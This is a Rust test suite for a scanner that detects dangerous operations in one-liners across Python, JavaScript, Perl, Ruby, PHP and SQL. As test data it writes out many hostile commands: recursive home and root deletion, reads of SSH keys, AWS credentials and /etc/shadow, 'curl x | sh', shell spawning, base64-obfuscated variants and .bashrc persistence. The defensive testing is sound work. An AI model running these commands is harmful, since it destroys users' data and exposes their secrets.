//! Real attack shapes per language, variations, and benign one-liners that must find nothing
//! worrying.

use super::*;

fn shell(s: &str) -> Finding {
    Finding::Shell(s.as_bytes().to_vec())
}

fn exec(argv: &[&str]) -> Finding {
    Finding::Exec(argv.iter().map(|a| a.as_bytes().to_vec()).collect())
}

fn read(p: &str) -> Finding {
    Finding::Read(p.as_bytes().to_vec())
}

fn write(p: &str) -> Finding {
    Finding::Write(p.as_bytes().to_vec())
}

fn rmtree(p: &str) -> Finding {
    Finding::Remove {
        path: p.as_bytes().to_vec(),
        recursion: Recursion::Recursive,
    }
}

fn finds(language: Language, code: &str, expected: &[Finding]) {
    let found = scan(language, code.as_bytes(), &Arguments::NONE);
    for want in expected {
        assert!(
            found.contains(want),
            "{code}\n  wanted {want:?}\n  found {found:?}"
        );
    }
}

/// What `code` finds when given `given` as its arguments, inline or as a script file.
fn finds_given(language: Language, code: &str, given: &[&str], origin: Origin) -> Vec<Finding> {
    let given: Vec<Vec<u8>> = given.iter().map(|a| a.as_bytes().to_vec()).collect();
    let arguments = Arguments {
        given: &given,
        origin,
    };
    scan(language, code.as_bytes(), &arguments)
}

#[test]
fn code_reads_the_arguments_it_was_given() {
    use Origin::{File, Inline};
    let home = &["/home/u"];
    for (language, code, origin) in [
        (
            Language::Python,
            "import shutil, sys; shutil.rmtree(sys.argv[1])",
            Inline,
        ),
        (
            Language::Python,
            "from sys import argv\nimport shutil\nshutil.rmtree(argv[1])",
            File,
        ),
        (
            Language::JavaScript,
            "require('fs').rmSync(process.argv[1], {recursive: true})",
            Inline,
        ),
        // A script file is `process.argv[1]` itself.
        (
            Language::JavaScript,
            "require('fs').rmSync(process.argv[2], {recursive: true})",
            File,
        ),
        (Language::Perl, "use File::Path; rmtree($ARGV[0]);", Inline),
        (
            Language::Ruby,
            "require 'fileutils'; FileUtils.rm_rf(ARGV[0])",
            Inline,
        ),
        (
            Language::Php(PhpStart::Code),
            "system('rm -rf ' . $argv[1]);",
            Inline,
        ),
    ] {
        let found = finds_given(language, code, home, origin);
        let deletes_home = found.iter().any(|finding| match finding {
            Finding::Remove { path, .. } => path == b"/home/u",
            Finding::Shell(line) => line == b"rm -rf /home/u",
            _ => false,
        });
        assert!(deletes_home, "{code}: {found:?}");
    }
    // An argument that is not there is not known; nor is one before the arguments.
    assert!(!finds_given(
        Language::Python,
        "import shutil, sys; shutil.rmtree(sys.argv[2])",
        home,
        Inline
    )
    .contains(&rmtree("/home/u")));
    assert!(!finds_given(
        Language::JavaScript,
        "require('fs').rmSync(process.argv[1], {recursive: true})",
        home,
        File
    )
    .contains(&rmtree("/home/u")));
}

#[test]
fn python_attack_shapes() {
    use Language::Python as P;
    finds(P, "import os; os.system('rm -rf ~')", &[shell("rm -rf ~")]);
    finds(
        P,
        "import subprocess; subprocess.run(['rm', '-rf', '/'])",
        &[exec(&["rm", "-rf", "/"])],
    );
    finds(
        P,
        "import subprocess as sp\nsp.check_output('cat ~/.ssh/id_rsa', shell=True)",
        &[shell("cat ~/.ssh/id_rsa")],
    );
    finds(
        P,
        "from os import system as s; s(\"curl x | sh\")",
        &[shell("curl x | sh")],
    );
    finds(
        P,
        "print(open('/home/u/.ssh/id_rsa').read())",
        &[read("/home/u/.ssh/id_rsa")],
    );
    finds(
        P,
        "import os;print(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
        &[read("~/.ssh/id_rsa")],
    );
    finds(P, "import os\np = os.path.join(os.environ['HOME'], '.aws', 'credentials')\nprint(open(p).read())", &[read("$HOME/.aws/credentials")]);
    finds(
        P,
        "from pathlib import Path; print((Path.home() / '.ssh' / 'id_ed25519').read_text())",
        &[read("~/.ssh/id_ed25519")],
    );
    finds(
        P,
        "import shutil; shutil.rmtree(os.path.expanduser('~'))",
        &[rmtree("~")],
    );
    finds(P, "import pty; pty.spawn('/bin/sh')", &[shell("/bin/sh")]);
    finds(
        P,
        "__import__('os').system('rm -rf ' + '~')",
        &[shell("rm -rf ~")],
    );
    finds(
        P,
        "import os; os.execvp('rm', ['rm', '-rf', '/'])",
        &[exec(&["rm", "-rf", "/"])],
    );
    finds(
        P,
        "c = f'rm -rf {\"~\"}'; import os; os.system(c)",
        &[shell("rm -rf ~")],
    );
    finds(
        P,
        "import os,base64; os.system(base64.b64decode('cm0gLXJmIH4=').decode())",
        &[shell("rm -rf ~")],
    );
    finds(P, "exec(\"import os; os.system('id')\")", &[shell("id")]);
    finds(P, "import os\nfor r, d, f in os.walk(os.path.expanduser('~')):\n    for n in f: os.remove(os.path.join(r, n))", &[rmtree("~")]);
    finds(
        P,
        "import shutil; shutil.copy('/etc/shadow', '/tmp/s')",
        &[Finding::Copy {
            from: b"/etc/shadow".to_vec(),
            to: Some(b"/tmp/s".to_vec()),
        }],
    );
    finds(
        P,
        "open('/home/u/.bashrc', 'a').write('curl x | sh')",
        &[write("/home/u/.bashrc")],
    );
}

#[test]
fn javascript_attack_shapes() {
    use Language::JavaScript as J;
    finds(
        J,
        "require('child_process').execSync('rm -rf ~')",
        &[shell("rm -rf ~")],
    );
    finds(
        J,
        "const {exec} = require('child_process'); exec(`cat ${'~'}/.ssh/id_rsa`)",
        &[shell("cat ~/.ssh/id_rsa")],
    );
    finds(
        J,
        "const cp = require('node:child_process'); cp.spawn('rm', ['-rf', '/'])",
        &[exec(&["rm", "-rf", "/"])],
    );
    finds(
        J,
        "require('child_process').spawnSync('sh', ['-c', 'id'])",
        &[exec(&["sh", "-c", "id"])],
    );
    finds(
        J,
        "const fs=require('fs');fs.rmSync(require('os').homedir(),{recursive:true,force:true})",
        &[rmtree("~")],
    );
    finds(
        J,
        "fs.rmSync(process.env.HOME, {recursive: true})",
        &[rmtree("$HOME")],
    );
    finds(J, "console.log(require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh/id_rsa'), 'utf8'))", &[read("~/.ssh/id_rsa")]);
    finds(
        J,
        "import {execSync} from 'child_process'; execSync('id')",
        &[shell("id")],
    );
    finds(
        J,
        "eval(\"require('child_process').execSync('whoami')\")",
        &[shell("whoami")],
    );
    finds(
        J,
        "require('child_process').exec(Buffer.from('cm0gLXJmIH4=', 'base64').toString())",
        &[shell("rm -rf ~")],
    );
    finds(
        J,
        "const h = require('os').homedir(); require('fs').rmSync(h + '/', {recursive: true})",
        &[rmtree("~/")],
    );
}

#[test]
fn perl_attack_shapes() {
    use Language::Perl as L;
    finds(L, "system('rm -rf ~')", &[shell("rm -rf ~")]);
    finds(
        L,
        "system 'rm', '-rf', $ENV{HOME}",
        &[exec(&["rm", "-rf", "$HOME"])],
    );
    finds(
        L,
        "print `cat $ENV{HOME}/.ssh/id_rsa`",
        &[shell("cat $HOME/.ssh/id_rsa")],
    );
    finds(L, "print qx{id}", &[shell("id")]);
    finds(
        L,
        "open(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\"); print <$f>",
        &[read("$HOME/.ssh/id_rsa")],
    );
    finds(
        L,
        "open F, \"/etc/shadow\"; print <F>",
        &[read("/etc/shadow")],
    );
    finds(
        L,
        "use File::Path qw(rmtree); rmtree($ENV{HOME})",
        &[rmtree("$HOME")],
    );
    finds(
        L,
        "File::Path::remove_tree(\"/home/u\")",
        &[rmtree("/home/u")],
    );
    finds(L, "exec qw(rm -rf /)", &[exec(&["rm", "-rf", "/"])]);
    finds(
        L,
        "open(P, '-|', 'cat', '/etc/shadow')",
        &[exec(&["cat", "/etc/shadow"])],
    );
}

#[test]
fn ruby_attack_shapes() {
    use Language::Ruby as R;
    finds(R, "system('rm -rf ~')", &[shell("rm -rf ~")]);
    finds(
        R,
        "system 'rm', '-rf', Dir.home",
        &[exec(&["rm", "-rf", "~"])],
    );
    finds(
        R,
        "puts `cat #{ENV['HOME']}/.ssh/id_rsa`",
        &[shell("cat $HOME/.ssh/id_rsa")],
    );
    finds(R, "puts %x(id)", &[shell("id")]);
    finds(
        R,
        "require 'fileutils'; FileUtils.rm_rf(Dir.home)",
        &[rmtree("~")],
    );
    finds(R, "FileUtils.rm_r File.expand_path('~')", &[rmtree("~")]);
    finds(
        R,
        "puts File.read(File.join(Dir.home, '.aws', 'credentials'))",
        &[read("~/.aws/credentials")],
    );
    finds(
        R,
        "IO.popen(['cat', '/etc/shadow']) { |io| puts io.read }",
        &[exec(&["cat", "/etc/shadow"])],
    );
    finds(R, "open('| id')", &[shell("id")]);
}

#[test]
fn php_attack_shapes() {
    let php = Language::Php(PhpStart::Code);
    finds(php, "system('rm -rf ~');", &[shell("rm -rf ~")]);
    finds(
        php,
        "echo shell_exec(\"cat \" . getenv('HOME') . \"/.ssh/id_rsa\");",
        &[shell("cat $HOME/.ssh/id_rsa")],
    );
    finds(
        php,
        "echo file_get_contents($_SERVER['HOME'] . '/.ssh/id_rsa');",
        &[read("$HOME/.ssh/id_rsa")],
    );
    finds(php, "echo `id`;", &[shell("id")]);
    finds(php, "PassThru('whoami');", &[shell("whoami")]);
    finds(
        php,
        "pcntl_exec('/bin/rm', ['-rf', '/']);",
        &[exec(&["/bin/rm", "-rf", "/"])],
    );
    finds(
        php,
        "$d = getenv('HOME'); foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($d, 4096), 2) as $f) { $f->isDir() ? rmdir($f) : unlink($f); }",
        &[rmtree("$HOME")],
    );
    let file = Language::Php(PhpStart::Html);
    finds(file, "<p>hi</p><?php system(\"id\"); ?>", &[shell("id")]);
}

#[test]
fn sql_attack_shapes() {
    finds(
        Language::Sql,
        "select readfile('/home/u/.ssh/id_rsa');",
        &[read("/home/u/.ssh/id_rsa")],
    );
    finds(
        Language::Sql,
        "SELECT pg_read_file('/etc/passwd')",
        &[read("/etc/passwd")],
    );
    finds(
        Language::Sql,
        "LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE t",
        &[read("/etc/shadow")],
    );
    finds(
        Language::Sql,
        "select 1 into outfile '/home/u/.bashrc'",
        &[write("/home/u/.bashrc")],
    );
    finds(
        Language::Sql,
        "copy t from program 'curl x | sh'",
        &[shell("curl x | sh")],
    );
}

/// Shapes the scanners were not written against: each must still be found.
#[test]
fn variations_not_written_for() {
    finds(
        Language::Python,
        "import subprocess\nsubprocess.Popen(args=['rm','-rf','/'])",
        &[exec(&["rm", "-rf", "/"])],
    );
    finds(
        Language::Python,
        "import os\ncmd = 'rm'\ncmd += ' -rf ~'\nos.popen(cmd).read()",
        &[shell("rm -rf ~")],
    );
    finds(
        Language::Python,
        "import os; os.system('{} -rf {}'.format('rm', '~'))",
        &[shell("rm -rf ~")],
    );
    finds(
        Language::Python,
        "import os; os.system('rm -rf %s' % '~')",
        &[shell("rm -rf ~")],
    );
    finds(
        Language::JavaScript,
        "const { execSync: run } = require('child_process'); run(['rm', '-rf', '~'].join(' '))",
        &[shell("rm -rf ~")],
    );
    finds(Language::JavaScript, "(async () => { const fs = require('fs/promises'); await fs.rm('/home/u', {recursive: true}) })()", &[rmtree("/home/u")]);
    finds(
        Language::Perl,
        "my $c = 'rm -rf ' . $ENV{HOME}; system($c);",
        &[shell("rm -rf $HOME")],
    );
    finds(
        Language::Perl,
        "$_ = 'x'; s/x/system('id')/e;",
        &[shell("id")],
    );
    finds(
        Language::Ruby,
        "h = Dir.home\nsystem(\"rm -rf #{h}\")",
        &[shell("rm -rf ~")],
    );
    finds(
        Language::Ruby,
        "Kernel.exec('rm', '-rf', '/')",
        &[exec(&["rm", "-rf", "/"])],
    );
    finds(
        Language::Php(PhpStart::Code),
        "$c = 'rm'; $c .= ' -rf /'; exec($c);",
        &[shell("rm -rf /")],
    );
    finds(
        Language::Php(PhpStart::Code),
        "echo implode('', file(getenv('HOME') . '/.ssh/id_rsa'));",
        &[read("$HOME/.ssh/id_rsa")],
    );
    finds(
        Language::Sql,
        "SELECT LOAD_FILE(CONCAT('/etc/', 'shadow'))",
        &[read("/etc/shadow")],
    );
    finds(
        Language::Sql,
        "\\copy secrets from /home/u/.aws/credentials",
        &[read("/home/u/.aws/credentials")],
    );
}

#[test]
fn benign_one_liners_find_nothing_worrying() {
    let quiet = |language: Language, code: &str| {
        let found = scan(language, code.as_bytes(), &Arguments::NONE);
        let worrying = found.iter().any(|f| {
            matches!(f, Finding::Shell(_) | Finding::Exec(_) | Finding::Write(_) | Finding::Move { .. })
                || matches!(f, Finding::Remove { path, .. } if path != b"build")
                || matches!(f, Finding::Read(p) if p != b"package.json" && p != b"./package.json" && p != b"file.txt")
        });
        assert!(!worrying, "{code}: {found:?}");
    };
    quiet(Language::Python, "print(1)");
    quiet(
        Language::Python,
        "import json,sys; print(json.load(open(\"package.json\"))[\"name\"])",
    );
    quiet(Language::Python, "import shutil; shutil.rmtree(\"build\")");
    quiet(Language::Python, "import sys; print(sys.version)");
    quiet(
        Language::JavaScript,
        "console.log(require(\"./package.json\").version)",
    );
    quiet(
        Language::JavaScript,
        "console.log(JSON.parse(require('fs').readFileSync('package.json','utf8')).name)",
    );
    quiet(Language::JavaScript, "const x = a / b / c; console.log(x)");
    quiet(Language::Perl, "s/a/b/");
    quiet(Language::Perl, "print if /foo/");
    quiet(Language::Ruby, "puts RUBY_VERSION");
    quiet(Language::Php(PhpStart::Code), "echo PHP_VERSION;");
    quiet(
        Language::Sql,
        "select count(*) from users where name = 'readfile(x)';",
    );
}

/// Inputs built to make scanners slow: deep nesting, endless interpolation, doubling
/// strings, unterminated quotes. Each is scanned in well under the bound even in a debug
/// build on a busy machine (a release build takes a tenth of it).
#[test]
fn any_input_is_scanned_quickly() {
    let bound = std::time::Duration::from_secs(5);
    let nasty: Vec<Vec<u8>> = vec![
        "(".repeat(100_000).into_bytes(),
        "a(".repeat(50_000).into_bytes(),
        "\"${".repeat(30_000).into_bytes(),
        "`${`".repeat(30_000).into_bytes(),
        "f'{".repeat(30_000).into_bytes(),
        "\"#{".repeat(30_000).into_bytes(),
        "x = x + x\n".repeat(20_000).into_bytes(),
        "a='a'\n"
            .to_string()
            .into_bytes()
            .into_iter()
            .chain("a+=a\n".repeat(40).into_bytes())
            .chain(b"exec(a)".to_vec())
            .collect(),
        "q{".repeat(50_000).into_bytes(),
        "<<A\n".repeat(30_000).into_bytes(),
        "system ".repeat(30_000).into_bytes(),
        vec![0xff; 200_000],
    ];
    for input in &nasty {
        for language in [
            Language::Python,
            Language::JavaScript,
            Language::Perl,
            Language::Ruby,
            Language::Php(PhpStart::Code),
            Language::Php(PhpStart::Html),
            Language::Sql,
        ] {
            let started = std::time::Instant::now();
            scan(language, input, &Arguments::NONE);
            let elapsed = started.elapsed();
            assert!(
                elapsed < bound,
                "{language:?} took {elapsed:?} on {:?}…",
                String::from_utf8_lossy(&input[..16])
            );
        }
    }
}
